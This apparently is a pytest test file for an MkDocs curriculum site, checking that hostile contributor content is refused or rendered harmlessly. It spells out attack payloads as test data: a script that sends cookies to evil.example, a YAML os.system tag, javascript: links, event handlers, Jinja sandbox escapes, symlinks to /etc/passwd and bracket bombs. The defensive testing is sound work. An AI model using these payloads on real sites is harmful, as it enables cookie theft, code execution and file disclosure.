"""Hostile and broken input: refused with a precise message, nothing published, nothing run."""

from __future__ import annotations

import os
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import Project, article_text, assert_refused, page

AL = "curriculum/competencies/active-listening.yml"
AL_ES = "curriculum/competencies/active-listening.es.yml"
CASE = "cases/warehouse-finishing-sentences.md"
RUBRIC = "rubrics/coaching-cycle.yml"
FRAMEWORK = "curriculum/framework.yml"


@dataclass(frozen=True)
class Attack:
    name: str
    file: str
    prepare: Callable[[Project], None]
    line: Callable[[Project], int]
    field: str
    message: str

    def __str__(self) -> str:
        return self.name


def edit(file: str, old: str, new: str) -> Callable[[Project], None]:
    return lambda project: project.edit(file, old, new)


def line_of(file: str, text: str) -> Callable[[Project], int]:
    return lambda project: project.line_of(file, text)


def at(line: int) -> Callable[[Project], int]:
    return lambda project: line


def symlink(target: str, link: str) -> Callable[[Project], None]:
    def make(project: Project) -> None:
        os.symlink(target, project.path(link))
    return make


ATTACKS = [
    Attack("script tag in a case body", CASE, edit(CASE, "## Debrief {#debrief}\n", "## Debrief {#debrief}\n\n"
           "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"),
           line_of(CASE, "<script>"), "body", "raw HTML <script> is not allowed"),
    Attack("javascript link in a summary", AL,
           edit(AL, "summary: >-\n", "summary: >-\n  [Read more](javascript:alert(1))\n"),
           line_of(AL, "summary:"), "summary", "the link 'javascript:alert(1)' is not allowed"),
    Attack("event handler through attribute lists", CASE,
           edit(CASE, "## Debrief {#debrief}\n", "## Debrief {#debrief}\n\nHello\n{: onmouseover=\"alert(1)\" }\n"),
           line_of(CASE, "onmouseover"), "body", "the HTML attribute 'onmouseover' on <p> is not allowed"),
    Attack("iframe in a look-for", RUBRIC, edit(RUBRIC, "    look_fors:\n      emerging:\n        - The agreement",
                                                "    look_fors:\n      emerging:\n        - <iframe src=\"https://evil.example\">"
                                                "</iframe> The agreement"),
           line_of(RUBRIC, "<iframe"), "criteria[0].look_fors.emerging[0]", "raw HTML <iframe> is not allowed"),
    Attack("data URL image in a translation", AL_ES, edit(AL_ES, "summary: >-\n",
                                                          "summary: >-\n  ![x](data:text/html;base64,PHNjcmlwdD4=)\n"),
           line_of(AL_ES, "summary:"), "summary", "the link 'data:text/html;base64,PHNjcmlwdD4=' is not allowed"),
    Attack("style that is not an alignment", AL, edit(AL, "title: Active listening",
                                                      'title: "<span style=\\"background: url(x)\\">Active</span>"'),
           line_of(AL, "title:"), "title", "the HTML attribute 'style' on <span> is not allowed"),
    Attack("YAML alias", RUBRIC, edit(RUBRIC, "threshold: 14", "threshold: &t 14\nextra: *t"),
           line_of(RUBRIC, "extra: *t"), "extra", "aliases (*name) are not allowed"),
    Attack("python object tag", AL, edit(AL, "title: Active listening",
                                         "title: !!python/object/apply:os.system [\"touch /tmp/pwned\"]"),
           line_of(AL, "title:"), "title", "the tag 'tag:yaml.org,2002:python/object/apply:os.system' is not allowed"),
    Attack("custom local tag", RUBRIC, edit(RUBRIC, "threshold: 14", "threshold: !include secrets.yml"),
           line_of(RUBRIC, "threshold:"), "threshold", "the tag '!include' is not allowed"),
    Attack("merge key", FRAMEWORK, edit(FRAMEWORK, "certification:\n", "certification:\n  <<: {extra: 1}\n"),
           line_of(FRAMEWORK, "<<:"), "certification", "merge keys (<<) are not allowed"),
    Attack("control character", AL, edit(AL, "title: Active listening", "title: \"Active\\a listening\""),
           line_of(AL, "title:"), "title", "control or bidirectional-override characters are not allowed"),
    Attack("bidirectional override", CASE, edit(CASE, "title: Finishing", "title: \u202eFinishing"),
           line_of(CASE, "title:"), "title", "control or bidirectional-override characters are not allowed"),
    Attack("two YAML documents", RUBRIC, edit(RUBRIC, "threshold: 14", "threshold: 14\n---\nthreshold: 1"),
           line_of(RUBRIC, "---"), "", "only one YAML document is allowed per file"),
    Attack("very deep nesting", AL, edit(AL, "related: [powerful-questioning,", "related: " + "[" * 60 + "x" + "]" * 60
                                         + "\nold_related: [powerful-questioning,"),
           line_of(AL, "related: [[["), "related", "nested more than 32 levels deep"),
    Attack("huge number", RUBRIC, edit(RUBRIC, "threshold: 14", "threshold: 1" + "0" * 400),
           line_of(RUBRIC, "threshold:"), "threshold", "would be read as a number"),
    Attack("infinity", RUBRIC, edit(RUBRIC, "threshold: 14", "threshold: .inf"),
           line_of(RUBRIC, "threshold:"), "threshold", "'.inf' would be read as the number inf"),
    Attack("macros switched on from a case", CASE,
           edit(CASE, "level: emerging", "level: emerging\nrender_macros: true"),
           line_of(CASE, "render_macros"), "render_macros", "unknown field"),
    Attack("front matter never closed", CASE, lambda p: p.path(CASE).write_text(
           p.path(CASE).read_text("utf-8").replace("---\n\n## Scenario", "\n\n## Scenario", 1), "utf-8"),
           at(1), "", "the front matter is not closed"),
    Attack("symbolic link to a system file", "cases/passwd.md", symlink("/etc/passwd", "cases/passwd.md"),
           at(1), "", "symbolic links are not allowed in content"),
    Attack("dangling symbolic link", "cases/ghost.md", symlink("/nonexistent/ghost.md", "cases/ghost.md"),
           at(1), "", "symbolic links are not allowed in content"),
    Attack("symbolic link in docs", "docs/secrets.md", symlink("/etc/hostname", "docs/secrets.md"),
           at(1), "", "symbolic links are not allowed in content"),
    Attack("symbolic link to a folder", "rubrics/more", symlink("/etc", "rubrics/more"),
           at(1), "", "symbolic links are not allowed in content"),
    Attack("oversized file", "cases/huge.md", lambda p: p.write("cases/huge.md", "---\n" + "x" * 600_000),
           at(1), "", "content files are limited to 512 KiB"),
    Attack("not a content file", "cases/notes.txt", lambda p: p.write("cases/notes.txt", "draft"),
           at(1), "", "unexpected file here: content files in this folder end in .md"),
    Attack("latin-1 text", CASE, lambda p: p.path(CASE).write_bytes(
           p.path(CASE).read_bytes().replace(b"Finishing", "Fin\xe9shing".encode("latin-1"))),
           at(3), "", "not UTF-8 text (byte 0xe9)"),
    Attack("bracket bomb", CASE, edit(CASE, "## Debrief {#debrief}\n", "## Debrief {#debrief}\n\n" + "[" * 20_000 + "x"
                                      + "]" * 20_000 + "(y)\n"),
           line_of(CASE, "[[[["), "body", "more than 500 '[' in one paragraph"),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_hostile_input_is_refused_precisely(project: Project, tmp_path: Path, attack: Attack) -> None:
    attack.prepare(project)
    started = time.monotonic()
    assert_refused(project, tmp_path / "site", attack.file, attack.line(project), attack.field, attack.message)
    assert time.monotonic() - started < 60


def test_template_syntax_in_contributor_text_renders_literally(project: Project, tmp_path: Path) -> None:
    payloads = ["{{ config.extra }}", "{% for x in range(3) %}loop{% endfor %}",
                "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ environment }}"]
    project.edit(CASE, "## Debrief {#debrief}\n", "## Debrief {#debrief}\n\n" + "\n\n".join(payloads) + "\n")
    project.edit(AL, "summary: >-\n", "summary: >-\n  {{ macros_info() }} {% include 'mkdocs.yml' %}\n")
    project.edit(AL_ES, "title: Escucha activa", "title: \"Escucha {{ config.site_name }}\"")

    assert project.build(tmp_path / "site").returncode == 0

    case_text = article_text(page(tmp_path / "site", "cases/warehouse-finishing-sentences"))
    for payload in payloads[:2] + payloads[3:]:
        assert payload in case_text
    assert "loop loop loop" not in case_text
    # Markdown makes the dunders bold, but no template ever evaluated them.
    assert "{{ ''." in case_text and "subclasses" in case_text and "<class" not in case_text
    assert "{{ macros_info() }} {% include 'mkdocs.yml' %}" in article_text(
        page(tmp_path / "site", "competencies/active-listening"))
    assert page(tmp_path / "site", "es/competencies/active-listening").select_one("article h1").get_text(
        strip=True).rstrip("¶") == "Escucha {{ config.site_name }}"


def test_titles_are_escaped_in_the_page_title_nav_and_meta(project: Project, tmp_path: Path) -> None:
    project.edit(AL, "title: Active listening", "title: Listening & \"quoting\" 'well'")
    assert project.build(tmp_path / "site").returncode == 0
    soup = page(tmp_path / "site", "competencies/active-listening")
    assert soup.title.get_text().startswith("Listening & \"quoting\" 'well'")
    assert soup.select_one("article h1").get_text(strip=True).rstrip("¶") == "Listening & \"quoting\" 'well'"
    nav = soup.select_one("nav.md-nav--primary").get_text(" ")
    assert "Listening & \"quoting\" 'well'" in nav
    raw = (tmp_path / "site/competencies/active-listening/index.html").read_text("utf-8")
    assert "<title>Listening &amp; \"quoting\" 'well' - " in raw


def test_markup_shown_as_code_in_a_title_stays_text_in_the_page_title(project: Project, tmp_path: Path) -> None:
    project.edit(AL, "title: Active listening", "title: 'Listening `<img src=x onerror=alert(1)>` well'")
    assert project.build(tmp_path / "site").returncode == 0
    raw = (tmp_path / "site/competencies/active-listening/index.html").read_text("utf-8")
    assert "<img src=x" not in raw
    assert "<title>Listening &lt;img src=x onerror=alert(1)&gt; well - " in raw


def test_snippets_if_enabled_cannot_reach_outside_docs(project: Project, tmp_path: Path) -> None:
    project.edit("mkdocs.yml", "markdown_extensions:\n", "markdown_extensions:\n  - pymdownx.snippets:\n"
                 "      base_path: [\".\", \"/\"]\n      check_paths: false\n")
    project.edit("docs/governance.md", "# Governance\n", "# Governance\n\n--8<-- \"mkdocs.yml\"\n")

    built = project.build(tmp_path / "site")

    assert built.returncode == 1
    assert "mkdocs.yml" in built.stderr
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize("expression, complaint", [
    ("{{ ''.__class__.__mro__ }}", "unsafe"),
    ("{{ cycler.__init__.__globals__ }}", "unsafe"),
    ("{{ config.site_name }}", "config"),
    ("{{ environment }}", "environment"),
])
def test_macros_in_hand_written_pages_cannot_reach_python_or_configuration(project: Project, tmp_path: Path,
                                                                          expression: str, complaint: str) -> None:
    text = project.path("docs/assessment.md").read_text("utf-8")
    project.path("docs/assessment.md").write_text(text.replace("\n## ", f"\n{expression}\n\n## ", 1), "utf-8")
    site = tmp_path / "site"

    built = project.build(site)

    assert built.returncode != 0  # mkdocs-macros ends a failed page with exit status 100
    assert complaint in built.stderr
    assert not site.exists()
    assert [p.name for p in tmp_path.iterdir()] == ["project"], "a staging folder was left behind"

